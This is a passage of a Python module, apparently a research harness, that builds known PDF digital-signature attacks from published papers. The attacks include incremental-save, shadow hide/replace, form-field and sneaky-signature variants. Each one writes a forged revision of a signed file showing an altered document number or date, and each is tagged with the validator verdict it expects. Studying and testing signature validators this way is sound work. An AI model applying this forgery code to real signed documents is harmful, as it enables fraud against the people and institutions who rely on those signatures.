    del xobjects[generic.NameObject("/KcCover")]
    resources[generic.NameObject("/XObject")] = xobjects
    new_page[generic.NameObject("/Resources")] = resources
    dst.write_bytes(_append_revision(pdf, {bench.plan.page: _serialise(new_page)}))
    return Attack("shadow-hide-resource-dropped", "shadow-hide", MAINKA_2021,
                  "The update rewrites page 1 without the cover in its resources; no new content is added.",
                  "signature-modified", "failed", dst)


def shadow_replace_page_reference(bench: Workbench, dst: Path) -> Attack:
    """Replace: the page now uses the alternative content stream planted (unused) before signing."""
    pdf = _Pdf(bench.shadow.read_bytes())
    page = pdf.obj(bench.plan.page)
    new_page = _copy(page)
    new_page[generic.NameObject("/Contents")] = generic.ArrayObject(
        [_ref(bench.plan.page_contents), _ref(bench.plan.alternative)])
    dst.write_bytes(_append_revision(pdf, {bench.plan.page: _serialise(new_page)}))
    return Attack("shadow-replace-page-reference", "shadow-replace", MAINKA_2021,
                  "The update only repoints page 1's /Contents to a content stream that was signed but unused.",
                  "signature-modified", "failed", dst)


def shadow_replace_xref_only(bench: Workbench, dst: Path) -> Attack:
    """Replace: an xref-only update points the extra stream's number at its dead second definition."""
    pdf = _Pdf(bench.shadow.read_bytes())
    entries = {bench.plan.extra_contents: bench.plan.dead_extra_offset}
    startxref = len(pdf.data)
    trailer = _trailer(pdf, size=pdf.size, root=pdf.root_ref, prev=pdf.startxref)
    data = pdf.data + _xref_table(entries) + b"trailer\n" + trailer + b"\nstartxref\n%d\n%%%%EOF\n" % startxref
    dst.write_bytes(data)
    return Attack("shadow-replace-xref-only", "shadow-replace", MAINKA_2021,
                  "The update holds no object at all: one xref entry now points at a second definition of a "
                  "content stream that was in the signed bytes but listed nowhere.",
                  "signature-modified", "failed", dst)


def shadow_hide_and_replace_root(bench: Workbench, dst: Path) -> Attack:
    """Hide-and-replace: an xref-and-trailer-only update whose /Root is the planted alternative catalog."""
    pdf = _Pdf(bench.shadow.read_bytes())
    # The one xref entry re-lists the planted catalog where it already is: a pointer, not an object.
    entries = {bench.plan.alternative_catalog: bench.plan.alternative_catalog_offset}
    trailer = _trailer(pdf, size=pdf.size, root=bench.plan.alternative_catalog, prev=pdf.startxref)
    data = pdf.data + _xref_table(entries) + b"trailer\n" + trailer + b"\nstartxref\n%d\n%%%%EOF\n" % len(pdf.data)
    dst.write_bytes(data)
    return Attack("shadow-hide-and-replace-root", "shadow-hide-and-replace", MAINKA_2021,
                  "A whole alternative document was signed along (catalog and page tree); the update is only "
                  "a trailer whose /Root switches to it.",
                  "signature-modified", "failed", dst)


def shadow_hide_and_replace_pages(bench: Workbench, dst: Path) -> Attack:
    """Hide-and-replace: the catalog is rewritten so /Pages is the planted alternative page tree."""
    pdf = _Pdf(bench.shadow.read_bytes())
    catalog = _copy(pdf.obj(bench.plan.catalog))
    catalog[generic.NameObject("/Pages")] = _ref(bench.plan.alternative_pages)
    dst.write_bytes(_append_revision(pdf, {bench.plan.catalog: _serialise(catalog)}))
    return Attack("shadow-hide-and-replace-pages", "shadow-hide-and-replace", MAINKA_2021,
                  "The update rewrites the catalog's /Pages to an alternative page tree signed along, unused.",
                  "signature-modified", "failed", dst)


def shadow_form_field_value(bench: Workbench, dst: Path) -> Attack:
    """Form-field shadow: the date text field gets a new value (/V) and appearance after signing."""
    pdf = _Pdf(bench.shadow.read_bytes())
    text_field = _copy(pdf.obj(bench.plan.text_field))
    appearance = pdf.size
    text_field[generic.NameObject("/V")] = generic.TextStringObject("ngay 15/03/2023")
    text_field[generic.NameObject("/AP")] = _dict({"/N": _ref(appearance)})
    objects = {
        bench.plan.text_field: _serialise(text_field),
        appearance: _form_xobject(bench.layout.date_box, "ngay 15/03/2023", origin=True),
    }
    dst.write_bytes(_append_revision(pdf, objects))
    return Attack("shadow-form-field-value", "shadow-replace", MAINKA_2021,
                  "A text field signed with the date is filled with another date after signing, with a "
                  "matching appearance: to a validator this is 'form filling'.",
                  "signature-modified", "failed", dst)


def shadow_signature_appearance(bench: Workbench, dst: Path) -> Attack:
    """The organisation's visible signature widget gets a new appearance (another number) after signing."""
    pdf = _Pdf(bench.genuine.read_bytes())
    fields = pdf.obj(pdf.root_ref)["/AcroForm"]["/Fields"]
    widget_ref = fields.raw_get(len(fields) - 1)
    widget = _copy(_deref(widget_ref))
    appearance = pdf.size
    widget[generic.NameObject("/AP")] = _dict({"/N": _ref(appearance)})
    box = bench.layout.organization_stamp_box
    objects = {
        widget_ref.idnum: _serialise(widget),
        appearance: _form_xobject(box, "So: 12/KH-UBND ngay 15/03/2023", origin=True),
    }
    dst.write_bytes(_append_revision(pdf, objects))
    return Attack("shadow-signature-appearance", "shadow-replace", MAINKA_2021,
                  "The organisation's signature widget (where the clerk stamps number and date) is given a "
                  "new appearance showing another number after signing.",
                  "signature-modified", "failed", dst)


def ssa_sneaky_signature_field(bench: Workbench, dst: Path) -> Attack:
    """Sneaky signature: a new, never-signed signature field whose appearance covers the number."""
    pdf = _Pdf(bench.genuine.read_bytes())
    page_ref = pdf.page_ref(0)
    page = pdf.obj(page_ref)
    catalog = pdf.obj(pdf.root_ref)
    acroform_ref = catalog.raw_get("/AcroForm")
    assert isinstance(acroform_ref, generic.IndirectObject)
    acroform = _copy(_deref(acroform_ref))
    widget, appearance = pdf.size, pdf.size + 1
    fields = acroform.raw_get("/Fields")
    acroform[generic.NameObject("/Fields")] = generic.ArrayObject([*fields.iterate(), _ref(widget)])
    new_page = _copy(page)
    new_page[generic.NameObject("/Annots")] = generic.ArrayObject([*page.raw_get("/Annots").iterate(), _ref(widget)])
    box = bench.layout.number_box
    objects = {
        acroform_ref.idnum: _serialise(acroform),
        page_ref: _serialise(new_page),
        widget: _serialise(_dict({
            "/FT": generic.NameObject("/Sig"),
            "/T": generic.TextStringObject("Signature3"),
            "/Type": generic.NameObject("/Annot"),
            "/Subtype": generic.NameObject("/Widget"),
            "/F": _int(132),
            "/Rect": _rect(box),
            "/P": _ref(page_ref),
            "/AP": _dict({"/N": _ref(appearance)}),
        })),
        appearance: _form_xobject(box, _FORGED_NUMBER, origin=True),
    }
    dst.write_bytes(_append_revision(pdf, objects))
    return Attack("ssa-sneaky-signature-field", "SSA", ROHLMANN_2021,
                  "An empty signature field is added after signing; its appearance covers the number with a "
                  "forged one. Adding signature fields is normally allowed.",
                  "signature-modified", "failed", dst)


# --- the registry -------------------------------------------------------------------------------------------


ATTACKS: dict[str, AttackFunction] = {
    "isa-page-contents": isa_page_contents,
    "isa-redefine-contents": isa_redefine_contents,
    "isa-freetext-overlay": isa_freetext_overlay,
    "isa-stamp-overlay": isa_stamp_overlay,
    "isa-new-root": isa_new_root,
    "isa-objects-without-xref": isa_objects_without_xref,
    "isa-objects-without-xref-large": isa_objects_without_xref_large,
    "isa-trailer-without-xref": isa_trailer_without_xref,
    "isa-behind-later-signature": isa_behind_later_signature,
    "swa-relocated-to-end": swa_relocated_to_end,
    "swa-hidden-in-stream": swa_hidden_in_stream,
    **dict(_USF),
    "usf-resigned-short-range": usf_resigned_short_range,
    "usf-resigned-wide-gap": usf_resigned_wide_gap,
    "shadow-hide-cover-emptied": shadow_hide_cover_emptied,
    "shadow-hide-cover-freed": shadow_hide_cover_freed,
    "shadow-hide-resource-dropped": shadow_hide_resource_dropped,
    "shadow-replace-page-reference": shadow_replace_page_reference,
    "shadow-replace-xref-only": shadow_replace_xref_only,
    "shadow-hide-and-replace-root": shadow_hide_and_replace_root,
    "shadow-hide-and-replace-pages": shadow_hide_and_replace_pages,
    "shadow-form-field-value": shadow_form_field_value,
    "shadow-signature-appearance": shadow_signature_appearance,
    "ssa-sneaky-signature-field": ssa_sneaky_signature_field,
}
"""Every attack by name; each writes `<folder>/<name>.pdf` when run through :func:`run_attack`."""


def run_attack(bench: Workbench, name: str, folder: Path) -> Attack:
    """Write the attacked file `name` into `folder` and describe it."""
    folder.mkdir(parents=True, exist_ok=True)
    attack = ATTACKS[name](bench, folder / f"{name}.pdf")
    assert attack.name == name, (attack.name, name)
    return attack


# --- writing PDF bytes by hand ---------------------------------------------------------------------------


class _Pdf:
    """The attacker's view of a PDF: its bytes, pyHanko's parse of the newest revision, its trailer."""

    def __init__(self, data: bytes) -> None:
        self.data = data
        self.reader = PdfFileReader(io.BytesIO(data), strict=False)
        match = _STARTXREF.search(data, len(data) - 1024)
        if match is None:
            raise ValueError("no startxref/%%EOF at the end of the file")
        self.startxref = int(match.group(1))
        self.size = int(self.reader.trailer.raw_get("/Size"))
        root = self.reader.trailer.raw_get("/Root")
        assert isinstance(root, generic.IndirectObject)
        self.root_ref: int = root.idnum

    def obj(self, number: int) -> generic.DictionaryObject:
        value = _deref(generic.IndirectObject(number, 0, self.reader))  # type: ignore[no-untyped-call]
        assert isinstance(value, generic.DictionaryObject)
        return value

    def page_ref(self, index: int) -> int:
        kids = self.obj(self.root_ref)["/Pages"].raw_get("/Kids")
        reference = kids.raw_get(index)
        assert isinstance(reference, generic.IndirectObject)
        return int(reference.idnum)


def _append_revision(
    pdf: _Pdf,
    objects: ObjectBodies,
    *,
    free: Iterable[int] = (),
    root: int | None = None,
    prefix: bytes = b"",
) -> bytes:
    """`pdf` plus one classic incremental update: the objects, an xref section, a trailer, startxref.

    `free` object numbers get free entries (deleted objects); `root` replaces the trailer's /Root;
    `prefix` is written before the objects and listed nowhere.
    """
    data = pdf.data + prefix
    entries: dict[int, int | None] = {}
    for number in sorted(objects):
        entries[number] = len(data)
        data += _object(number, objects[number])
    for number in free:
        entries[number] = None
    startxref = len(data)
    size = max([pdf.size, *(number + 1 for number in entries)])
    data += _xref_table(entries) + b"trailer\n"
    data += _trailer(pdf, size=size, root=root or pdf.root_ref, prev=pdf.startxref)
    return data + b"\nstartxref\n%d\n%%%%EOF\n" % startxref


def _xref_table(entries: Mapping[int, int | None]) -> bytes:
    """A classic xref section; None marks a free entry. Every entry is 20 bytes, as the standard says."""
    out = [b"xref\n"]
    numbers = sorted(entries)
    run: list[int] = []
    for number in [*numbers, -1]:
        if run and number != run[-1] + 1:
            out.append(b"%d %d\n" % (run[0], len(run)))
            for item in run:
                offset = entries[item]
                out.append(b"0000000000 00001 f \n" if offset is None else b"%010d 00000 n \n" % offset)
            run = []
        run.append(number)
    return b"".join(out)


def _parse_xref_table(data: bytes, offset: int) -> dict[int, int]:
    """In-use entries of the classic xref section at `offset`: object number → byte offset."""
    if not data.startswith(b"xref", offset):
        raise ValueError("the newest revision has no classic xref table")
    position = offset + 4
    entries: dict[int, int] = {}
    header = re.compile(rb"\s*(\d+)\s+(\d+)\s*?\r?\n")
    while True:
        match = header.match(data, position)
        if match is None:
            return entries
        first, count = int(match.group(1)), int(match.group(2))
        position = match.end()
        for number in range(first, first + count):
            entry = data[position : position + _XREF_ENTRY]
            if entry[17:18] == b"n":
                entries[number] = int(entry[:10])
            position += _XREF_ENTRY


def _trailer(pdf: _Pdf, *, size: int, root: int, prev: int | None) -> bytes:
    trailer = _dict({
        "/Size": _int(size),
        "/Root": _ref(root),
    })
    for key in ("/Info", "/ID"):
        value = pdf.reader.trailer.raw_get(key) if key in pdf.reader.trailer else None
        if value is not None:
            trailer[generic.NameObject(key)] = value
    if prev is not None:
        trailer[generic.NameObject("/Prev")] = _int(prev)
    return _serialise(trailer)


def _object(number: int, body: bytes) -> bytes:
    return b"%d 0 obj\n%s\nendobj\n" % (number, body)


def _serialise(value: generic.PdfObject) -> bytes:
    buffer = io.BytesIO()
    value.write_to_stream(buffer, None)
    return buffer.getvalue()


def _ref(number: int) -> generic.IndirectObject:
    """A reference to object `number` (generation 0) that is only ever written, never resolved."""
    return generic.IndirectObject(number, 0, None)  # type: ignore[no-untyped-call]


# pyHanko's object constructors are untyped; these typed wrappers keep the attacks readable.
def _dict(entries: Mapping[str, Any]) -> generic.DictionaryObject:
    return generic.DictionaryObject(  # type: ignore[no-untyped-call]
        {generic.NameObject(key): value for key, value in entries.items()})


def _int(value: int) -> generic.NumberObject:
    return generic.NumberObject(value)  # type: ignore[no-untyped-call]


def _float(value: float) -> generic.FloatObject:
    return generic.FloatObject(value)  # type: ignore[no-untyped-call]


def _deref(value: Any) -> Any:
    return value.get_object()


def _copy(dictionary: generic.DictionaryObject) -> generic.DictionaryObject:
    """A shallow copy: direct values are shared, references stay references."""
    return _dict({key: dictionary.raw_get(key) for key in dictionary})


def _rect(box: Box) -> generic.ArrayObject:
    return generic.ArrayObject([_float(round(v, 2)) for v in (box.x1, box.y1, box.x2, box.y2)])


def _helvetica() -> generic.DictionaryObject:
    return _dict({
        "/Type": generic.NameObject("/Font"),
        "/Subtype": generic.NameObject("/Type1"),
        "/BaseFont": generic.NameObject("/Helvetica"),
        "/Encoding": generic.NameObject("/WinAnsiEncoding"),
    })


def _stream(content: bytes, entries: Mapping[str, generic.PdfObject] | None = None) -> bytes:
    return _serialise(generic.StreamObject(_dict(entries or {}), stream_data=content))


def _overlay_ops(box: Box, text: str | None, *, origin: bool = False, font: bytes = b"/KcF") -> bytes:
    """A white box over `box` and `text` in it; `origin` draws in the box's own coordinates."""
    x, y = (0.0, 0.0) if origin else (box.x1, box.y1)
    width, height = box.x2 - box.x1, box.y2 - box.y1
    ops = b"q 1 1 1 rg %.2f %.2f %.2f %.2f re f Q" % (x, y, width, height)
    if text is not None:
        ops += b" BT %s 12 Tf 0 g %.2f %.2f Td (%s) Tj ET" % (font, x + 2, y + 5, text.encode("latin-1"))
    return ops


def _form_xobject(box: Box, text: str | None, *, origin: bool = False) -> bytes:
    """A form XObject painting `_overlay_ops`; in page coordinates unless `origin` (for appearances)."""
    bbox = (0.0, 0.0, box.x2 - box.x1, box.y2 - box.y1) if origin else (box.x1, box.y1, box.x2, box.y2)
    return _stream(_overlay_ops(box, text, origin=origin), {
        "/Type": generic.NameObject("/XObject"),
        "/Subtype": generic.NameObject("/Form"),
        "/BBox": generic.ArrayObject([_float(round(v, 2)) for v in bbox]),
        "/Resources": _dict({
            "/Font": _dict({"/KcF": _helvetica()}),
        }),
    })


def _resources_with(page: generic.DictionaryObject, xobjects: Mapping[str, int]) -> generic.DictionaryObject:
    """The page's resources plus named form XObjects."""
    resources = _copy(page["/Resources"])
    existing = resources.get("/XObject")
    named = _copy(existing) if isinstance(existing, generic.DictionaryObject) else _dict({})
    for name, number in xobjects.items():
        named[generic.NameObject(name)] = _ref(number)
    resources[generic.NameObject("/XObject")] = named
    return resources


def _overlay_page(pdf: _Pdf, box: Box, *, replace_contents: bool) -> dict[int, bytes]:
    """Objects that make page 1 show the forged number: the page rewritten, a form, a content stream."""
    page_ref = pdf.page_ref(0)
    page = pdf.obj(page_ref)
    form, contents = pdf.size, pdf.size + 1
    new_page = _copy(page)
    new_page[generic.NameObject("/Resources")] = _resources_with(page, {"/KcOverlay": form})
    original = page["/Contents"]
    if replace_contents:
        assert isinstance(original, generic.StreamObject)
        new_page[generic.NameObject("/Contents")] = _ref(contents)
        stream = _stream(original.data + b"\nq /KcOverlay Do Q")
    else:
        new_page[generic.NameObject("/Contents")] = generic.ArrayObject([page.raw_get("/Contents"), _ref(contents)])
        stream = _stream(b"q /KcOverlay Do Q")
    return {page_ref: _serialise(new_page), form: _form_xobject(box, _FORGED_NUMBER), contents: stream}


__all__ = [
    "ATTACKS",
    "MAINKA_2021",
    "MLADENOV_2019",
    "ROHLMANN_2021",
    "Attack",
    "ShadowPlan",
    "Workbench",
    "build_workbench",
    "prepare_shadow_document",
    "run_attack",
    "sign_person_then_organisation",
]
